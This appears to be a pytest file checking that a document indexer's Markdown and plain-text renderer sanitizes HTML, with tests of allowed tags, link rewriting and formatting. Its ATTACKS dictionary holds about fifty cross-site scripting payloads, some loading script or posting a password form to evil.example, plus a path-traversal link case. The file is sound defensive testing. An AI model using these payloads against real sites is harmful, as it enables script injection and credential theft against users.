"""The HTML that a document's page shows contains nothing harmful."""

from html.parser import HTMLParser

import pytest

from indexer.readers.markdown import read_markdown
from indexer.readers.plain_text import read_plain_text
from indexer.readers.sanitize import ATTRIBUTES, SCHEMES, TAGS
from tests.conftest import MakeSource

# Each contains something that a browser would run, load or obey if it were let through. They are of
# the kinds in OWASP's cheat sheet on filter evasion, and those that Markdown adds.
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script left open": "<script>alert(1)",
    "script in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": "<b onclick=alert(1)>x</b>",
    "handler of an image": "text <img src=x onerror=alert(1)> text",
    "handler after a slash": "<img/src=x/onerror=alert(1)>",
    "handler in broken quotes": '<img """><script>alert(1)</script>">',
    "handler by itself": "<details open ontoggle=alert(1)>x</details>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "namespace": '<form><math><mtext></form><form><mglyph><style></math><img src onerror="a()">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "textarea": '<textarea></textarea><img src=x onerror="alert(1)">',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "link": "[click](javascript:alert(1))",
    "link in capitals": "[click](JaVaScRiPt:alert(1))",
    "link with an entity": "[click](&#x6A;avascript&colon;alert(1))",
    "link in raw html": '<a href="javascript:alert(1)">x</a>',
    "link with a tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "link with a line end": '<a href="java\nscript:alert(1)">x</a>',
    "link with a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to data in raw html": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link to vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link by reference": "[x]\n\n[x]: javascript:alert(1)",
    "link in angles": "<javascript:alert(1)>",
    "link that leaves its quotes": '[x](https://a.example/"onmouseover="alert(1))',
    "title that leaves its quotes": "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "image": "![x](https://evil.example/pixel.png)",
    "image that leaves its quotes": '![x" onerror="alert(1)](y)',
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": "<embed src=javascript:alert(1)>",
    "form": '<form action="https://evil.example"><input name=password></form>',
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "base": "<base href=//evil.example/>",
    "meta": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": "<style>body{background:url(//evil.example)}</style>",
    "style of an element": '<p style="position:fixed;inset:0">x</p>',
    "id and class": '<p id="query" class="support urgent">x</p>',
    "code fence": '```"><script>alert(1)</script>\nx\n```',
    "table": '| a |\n|---|\n| <img src=x onerror="alert(1)"> |',
}


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in {"br", "hr"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def shown(source: MakeSource, text: str) -> str:
    document = read_markdown(source(f"# T\n\n{text}\n")).document
    assert len(document.sections) == 1
    return document.sections[0].html


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_attacks_come_out_harmless(source: MakeSource, attack: str) -> None:
    html = shown(source, f"before\n\n{attack}\n\nafter, and *still* markup")
    assert "before" in html
    elements = Elements(html)
    assert not elements.open, "every element ends within the section"
    for tag, attributes in elements.elements:
        assert tag in TAGS
        extra = {"rel"} if tag == "a" else set()
        assert attributes.keys() <= ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | extra
        scheme = (attributes.get("href") or "https:").partition(":")[0]
        assert scheme in SCHEMES


def test_an_unclosed_element_swallows_nothing_after_it(source: MakeSource) -> None:
    html = shown(
        source, "<div><b>open\n\nthen this\n\n<script>\n\nnot this\n</script>\n\n<p>and *this*"
    )
    assert "<p>then this</p>" in html
    assert "not this" not in html
    assert "<p>and *this*\n</p>" in html


def test_markdown_keeps_its_form(source: MakeSource) -> None:
    html = shown(
        source,
        "A *b* **c** `d` <u>e</u>\n\n3. one\n4. two\n\n> said\n\n"
        "| h |\n|---|\n| 1 |\n\n    code <x>\n",
    )
    assert html == (
        "<p>A <em>b</em> <strong>c</strong> <code>d</code> <u>e</u></p>\n"
        '<ol start="3">\n<li>one</li>\n<li>two</li>\n</ol>\n'
        "<blockquote>\n<p>said</p>\n</blockquote>\n"
        "<table>\n<thead>\n<tr>\n<th>h</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>1</td>\n</tr>\n</tbody>\n</table>\n"
        "<pre><code>code &lt;x&gt;\n</code></pre>\n"
    )


def test_an_image_becomes_its_description_and_an_inner_heading_strong_text(
    source: MakeSource,
) -> None:
    assert shown(source, "See ![the map <b>](map.png).") == "<p>See the map &lt;b&gt;.</p>\n"
    assert shown(source, "> # Inner\n>\n> text") == (
        "<blockquote>\n<p><strong>Inner</strong></p>\n<p>text</p>\n</blockquote>\n"
    )


@pytest.mark.parametrize(
    ("link", "href"),
    [
        ("https://a.example/b?c#d", "https://a.example/b?c#d"),
        ("#part", "#part"),
        ("/elsewhere", "/elsewhere"),
        ("mailto:a@b.example", "mailto:a@b.example"),
        ("Other Page.md", None),  # because of the space, this is not a link in Markdown
        ("<Other Page.md>", "/documents/other-page"),
        ("Other%20Page.md#part", "/documents/other-page#part"),
        ("deep/er.txt", "/documents/deep/er"),
        ("../../../etc/passwd.md", "/documents/document/document/document/etc/passwd"),
        ("notes.pdf", None),
        ("ftp://a.example/", None),
    ],
)
def test_links_lead_to_where_readers_can_go(
    source: MakeSource, link: str, href: str | None
) -> None:
    targets = [
        attributes.get("href")
        for tag, attributes in Elements(shown(source, f"[x]({link})")).elements
        if tag == "a"
    ]
    assert targets in ([href], [] if href is None else [href])


def test_the_questions_of_the_author_are_not_shown(source: MakeSource) -> None:
    assert shown(source, "text\n\n<!-- also asked as:\n- why?\n-->\n") == "<p>text</p>\n"


def test_plain_text_is_shown_as_paragraphs_and_lists(source: MakeSource) -> None:
    text = "Title\n\nA <b> and\nmore:\n\n  • one & only\n  • two\n\nThen:\n\n3. three\n4. four\n"
    document = read_plain_text(source(text)).document
    assert [section.html for section in document.sections] == [
        "<p>A &lt;b&gt; and more:</p>\n<ul>\n<li>one &amp; only</li>\n<li>two</li>\n</ul>\n",
        '<p>Then:</p>\n<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n',
    ]


@pytest.mark.parametrize("suffix", ["md", "markdown", "txt", "html", "htm", "docx", "MD"])
def test_a_link_to_a_file_of_the_corpus_leads_to_its_document(
    source: MakeSource, suffix: str
) -> None:
    html = shown(source, f"[x](sub/other.{suffix}?v=1#part)")
    assert 'href="/documents/sub/other#part"' in html


def test_links_are_marked_so_that_other_sites_learn_nothing(source: MakeSource) -> None:
    assert 'rel="noopener noreferrer"' in shown(source, "[x](https://a.example/)")


@pytest.mark.parametrize("scheme", ["http", "https", "mailto", "tel"])
def test_links_may_have_the_schemes_that_do_no_harm(source: MakeSource, scheme: str) -> None:
    assert f'href="{scheme}:a"' in shown(source, f"[x]({scheme}:a)")


@pytest.mark.parametrize(
    "element",
    [
        *(
            f"<{tag}>x</{tag}>"
            for tag in [
                "abbr",
                "b",
                "cite",
                "code",
                "del",
                "dfn",
                "em",
                "i",
                "ins",
                "kbd",
                "mark",
                "q",
                "s",
            ]
        ),
        *(f"<{tag}>x</{tag}>" for tag in ["samp", "small", "strong", "sub", "sup", "u", "var"]),
        *('<abbr title="x">y</abbr>', '<b dir="rtl">x</b>', '<b lang="cy">x</b>'),
    ],
)
def test_what_marks_words_within_a_line_stays(source: MakeSource, element: str) -> None:
    assert element in shown(source, f"a {element} b")


def test_tables_of_html_keep_their_parts(source: MakeSource) -> None:
    table = (
        "<table><caption>c</caption><thead><tr>"
        '<th colspan="2" rowspan="1" scope="col">h</th></tr></thead><tbody><tr>'
        '<td colspan="1" rowspan="2">a</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>'
    )
    assert shown(source, table).strip() == table


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("1. a\n2. b", '<ol start="1">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("12) a", '<ol start="12">\n<li>a</li>\n</ol>\n'),
        ("- a 1. b", "<ul>\n<li>a 1. b</li>\n</ul>\n"),
        ("- 2. a", "<ul>\n<li>2. a</li>\n</ul>\n"),
    ],
)
def test_a_list_of_plain_text_is_counted_where_its_author_counts(
    source: MakeSource, text: str, html: str
) -> None:
    (section,) = read_plain_text(source(f"T\n\n{text}\n")).document.sections
    assert section.html == html


def test_boxes_show_their_title_in_strong_letters(source: MakeSource) -> None:
    for box in (
        '::: note "Mind"\ntext\n:::',
        '!!! note "Mind"\n    text',
        ":::note[Mind]\ntext\n:::",
    ):
        assert shown(source, box) == "<p><strong>Mind</strong></p>\n<p>text</p>\n"
    for box in ("::: note\ntext\n:::", "!!! note\n    text"):
        assert shown(source, box) == "<p><strong>Note</strong></p>\n<p>text</p>\n"
    for box in ("::: wide\ntext\n:::", '!!! note ""\n    text'):
        assert shown(source, box) == "<p>text</p>\n"
